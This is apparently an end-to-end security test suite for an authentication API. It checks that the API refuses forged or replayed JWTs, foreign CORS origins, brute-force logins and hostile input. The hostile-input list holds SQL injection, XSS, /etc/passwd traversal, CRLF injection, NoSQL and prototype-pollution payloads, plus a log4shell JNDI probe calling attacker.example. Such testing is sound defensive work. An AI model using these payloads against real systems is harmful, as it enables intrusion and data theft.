import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { after, before, describe, it } from 'node:test';
import { keyIdOf } from '../../services/api/src/auth/key-ring.ts';
import { secretsDir } from '../e2e/compose-stack.ts';
import {
  ALLOWED_ORIGIN,
  AUTH_MAX,
  claimsOf,
  down,
  forge,
  LOGIN_FAILURES,
  login,
  networkClient,
  send,
  signingKey,
  up,
} from './security-stack.ts';

// The checklist's sections 3.1 and 8.2, tried the way an attacker would: every request goes through nginx over TLS
// to the compose stack, as a client on the network would send it.

const EMAIL = 'security-suite@example.com';
const VICTIM = 'brute-force-victim@example.com';
const PASSWORD = 'a long password, typed once';

before(() => up([EMAIL, VICTIM], PASSWORD));
after(() => down());

const now = () => Math.floor(Date.now() / 1000);
const me = (token: string) => send('GET', '/v1/me', { token });
const base64url = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');

async function session() {
  const answer = await login(EMAIL, PASSWORD);
  assert.equal(answer.status, 200, `login failed: ${answer.text}`);
  return answer.json as { accessToken: string; refreshToken: string };
}

/** Claims exactly like the API's own, for the user the suite logs in as. */
async function genuineClaims(overrides: object = {}) {
  const real = claimsOf((await session()).accessToken);
  return { ...real, jti: `forged-${Math.random()}`, ...overrides };
}

function assertRefused(answer: { status: number; json: { error?: { code?: string } } }, code = 'AUTH_TOKEN_INVALID') {
  assert.equal(answer.status, 401);
  assert.equal(answer.json?.error?.code, code);
}

describe('forged and stale tokens', () => {
  it('should accept a token signed with the real key and genuine claims: the control for the refusals', async () => {
    const answer = await me(forge(await genuineClaims()));

    assert.equal(answer.status, 200);
  });

  it('should refuse alg: none', async () => {
    const header = { alg: 'none', typ: 'JWT', kid: keyIdOf(signingKey()) };
    const unsigned = `${base64url(header)}.${base64url(await genuineClaims())}.`;

    assertRefused(await me(unsigned));
  });

  it("should refuse an HMAC token keyed with the server's public certificate (key confusion)", async () => {
    const publicCertificate = readFileSync(`${secretsDir}/tls/server.crt`, 'utf8');

    assertRefused(await me(forge(await genuineClaims(), publicCertificate)));
  });

  it('should refuse a token signed with a wrong key under the real key id', async () => {
    assertRefused(await me(forge(await genuineClaims(), 'a-guessed-key-0123456789-abcdefghijklmnop')));
  });

  it('should refuse an unknown key id, even with the real key', async () => {
    assertRefused(await me(forge(await genuineClaims(), undefined, 'retired-or-invented')));
  });

  it('should refuse expired and not-yet-valid tokens', async () => {
    assertRefused(await me(forge(await genuineClaims({ iat: now() - 7200, exp: now() - 3600 }))));
    assertRefused(await me(forge(await genuineClaims({ nbf: now() + 3600 }))));
  });

  it('should refuse a token whose payload was changed after signing', async () => {
    const { accessToken } = await session();
    const [header, , signature] = accessToken.split('.');
    const tampered = `${header}.${base64url({ ...claimsOf(accessToken), sat: Date.now() + 86_400_000 })}.${signature}`;

    assertRefused(await me(tampered));
  });

  it('should refuse a revoked token', async () => {
    const { accessToken } = await session();

    await send('POST', '/v1/auth/logout', { token: accessToken });

    assertRefused(await me(accessToken), 'AUTH_TOKEN_REVOKED');
  });

  it('should refuse a reused refresh token, and end its session', async () => {
    const { refreshToken } = await session();
    const first = await send('POST', '/v1/auth/refresh', { body: { refreshToken } });

    const replay = await send('POST', '/v1/auth/refresh', { body: { refreshToken } });

    assert.equal(first.status, 200);
    assertRefused(replay, 'AUTH_TOKEN_REUSED');
    assertRefused(await me(first.json.accessToken), 'AUTH_TOKEN_REVOKED');
  });
});

describe('headers and cookies through nginx', () => {
  it('should send the security headers a JSON API needs, and nothing that names the software', async () => {
    const { headers } = await me((await session()).accessToken);

    assert.match(String(headers['strict-transport-security']), /max-age=\d{8}; includeSubDomains/);
    assert.match(String(headers['content-security-policy']), /default-src 'none'/);
    assert.match(String(headers['content-security-policy']), /frame-ancestors 'none'/);
    assert.doesNotMatch(String(headers['content-security-policy']), /upgrade-insecure-requests/);
    assert.equal(headers['x-content-type-options'], 'nosniff');
    assert.equal(headers['x-frame-options'], 'DENY');
    assert.equal(headers['cache-control'], 'no-store');
    assert.equal(headers['referrer-policy'], 'no-referrer');
    assert.match(String(headers['x-request-id']), /^[0-9a-f]{32}$/);
    assert.equal(headers['x-powered-by'], undefined);
    assert.equal(headers.server, 'nginx', 'no version in the Server header');
  });

  it('should set the refresh cookie HttpOnly, Secure, SameSite=Strict on its path, and refresh with it', async () => {
    const loggedIn = await send('POST', '/v1/auth/login', { body: { email: EMAIL, password: PASSWORD } });
    const setCookie = String(loggedIn.headers['set-cookie']);
    const cookie = /pdpl_refresh=[^;]+/.exec(setCookie)?.[0] ?? '';

    const refreshed = await send('POST', '/v1/auth/refresh', { headers: { cookie } });

    assert.match(setCookie, /; HttpOnly/);
    assert.match(setCookie, /; Secure/);
    assert.match(setCookie, /; SameSite=Strict/);
    assert.match(setCookie, /; Path=\/v1\/auth\/refresh/);
    assert.equal(loggedIn.json.refreshToken, undefined, 'a cookie login keeps the token out of reach of scripts');
    assert.equal(refreshed.status, 200);
    assert.match(String(refreshed.headers['set-cookie']), /pdpl_refresh=/);
  });

  it('should keep metrics and health checks off the edge, answering in the catalogue', async () => {
    for (const path of ['/metrics', '/health/ready', '/health/live']) {
      const answer = await send('GET', path);

      assert.equal(answer.status, 404, path);
      assert.equal(answer.json.error.code, 'NOT_FOUND', path);
    }
  });

  it('should not let a client choose the request id the logs will carry', async () => {
    const answer = await send('GET', '/v1/nonexistent', { headers: { 'x-request-id': 'attacker-chosen-id' } });

    assert.notEqual(answer.headers['x-request-id'], 'attacker-chosen-id');
    assert.equal(answer.json.error.requestId, answer.headers['x-request-id']);
  });
});

describe('CORS', () => {
  const preflight = (origin: string) =>
    send('OPTIONS', '/v1/me', {
      headers: { origin, 'access-control-request-method': 'GET', 'access-control-request-headers': 'authorization' },
    });

  it('should allow the configured origin, with credentials', async () => {
    const answer = await preflight(ALLOWED_ORIGIN);

    assert.equal(answer.headers['access-control-allow-origin'], ALLOWED_ORIGIN);
    assert.equal(answer.headers['access-control-allow-credentials'], 'true');
  });

  it('should send no CORS header at all to another origin', async () => {
    const evil = 'https://evil.example';
    const answers = [await preflight(evil), await send('GET', '/v1/me', { headers: { origin: evil } })];

    for (const answer of answers) {
      assert.equal(answer.headers['access-control-allow-origin'], undefined);
      assert.equal(answer.headers['access-control-allow-credentials'], undefined);
    }
  });
});

describe('hostile input', () => {
  const INJECTIONS = [
    "' OR '1'='1' --",
    '"; DROP TABLE users; --',
    '<script>alert(1)</script>',
    '../../../../etc/passwd',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text of a log4shell probe
    '${jndi:ldap://attacker.example/a}',
    'line\r\nSet-Cookie: injected=1',
    'nul\u0000byte',
    { $gt: '' },
  ];

  /** Refused by validation or as wrong credentials, never a 5xx, never anything internal in the answer. */
  function assertCleanRefusal(answer: { status: number; text: string; json: { error?: { code?: string } } }) {
    assert.ok([400, 401].includes(answer.status), `status ${answer.status}: ${answer.text}`);
    assert.ok(answer.json?.error?.code, 'a catalogue error');
    assert.doesNotMatch(answer.text, /at \w+ \(|\.js:\d+|\.ts:\d+|syntax error|pg_|postgres|ioredis/i);
  }

  for (const field of ['email', 'password', 'refreshTransport'] as const) {
    it(`should refuse injection strings in the login's ${field} cleanly`, async () => {
      for (const [index, value] of INJECTIONS.entries()) {
        // An account of its own for each try, so no account reaches its failure budget here.
        const body = { email: `injection-${field}-${index}@example.com`, password: 'not the password', [field]: value };
        assertCleanRefusal(await send('POST', '/v1/auth/login', { body }));
      }
    });
  }

  it('should refuse injection strings as a refresh token and as a bearer token cleanly', async () => {
    for (const value of INJECTIONS) {
      assertCleanRefusal(await send('POST', '/v1/auth/refresh', { body: { refreshToken: value } }));
      // Header values cannot carry CR, LF or NUL at all: the HTTP client refuses to send them.
      if (typeof value === 'string' && !['\r', '\n', '\u0000'].some((character) => value.includes(character))) {
        assertCleanRefusal(await send('GET', '/v1/me', { headers: { authorization: `Bearer ${value}` } }));
      }
    }
  });

  it('should refuse unknown fields, including an attempt at prototype pollution', async () => {
    const body = `{"email":"${EMAIL}","password":"${PASSWORD}","__proto__":{"admin":true}}`;

    const answer = await send('POST', '/v1/auth/login', { body });

    assert.equal(answer.status, 400);
    assert.equal(answer.json.error.code, 'VALIDATION_FAILED');
  });

  it('should refuse an oversized body at the edge with the catalogue answer', async () => {
    const answer = await send('POST', '/v1/auth/login', { body: { email: EMAIL, password: 'x'.repeat(70_000) } });

    assert.equal(answer.status, 413);
    assert.equal(answer.json.error.code, 'PAYLOAD_TOO_LARGE');
  });
});

// Last: these spend the host's and the victim's login budgets.
describe('brute force on login', () => {
  it('should make an account wait after wrong passwords, with Retry-After, even for the right one', async () => {
    const wrong = [];
    for (let attempt = 0; attempt < LOGIN_FAILURES; attempt++)
      wrong.push((await login(VICTIM, `guess ${attempt}`)).status);

    const right = await login(VICTIM, PASSWORD);

    assert.deepEqual(wrong, Array(LOGIN_FAILURES).fill(401));
    assert.equal(right.status, 429);
    assert.equal(right.json.error.code, 'RATE_LIMITED');
    assert.ok(Number(right.headers['retry-after']) > 0);
  });

  it("should stop one address's attempts at its budget, forged X-Forwarded-For or not, and no one else's", async () => {
    const [attacker, neighbour] = await Promise.all([networkClient(), networkClient()]);
    try {
      const spent = await attacker.failedLogins('attacker', AUTH_MAX + 1);
      const forged = await attacker.failedLogins('forged', 1, { 'x-forwarded-for': '203.0.113.77' });
      const other = await neighbour.failedLogins('neighbour', 1);

      assert.deepEqual(spent.slice(0, AUTH_MAX), Array(AUTH_MAX).fill(401));
      assert.equal(spent.at(-1), 429);
      assert.deepEqual(forged, [429], 'a claimed X-Forwarded-For does not buy a new budget');
      assert.deepEqual(other, [401], 'a client at another address keeps its own budget');
    } finally {
      await Promise.allSettled([attacker.stop(), neighbour.stop()]);
    }
  });
});
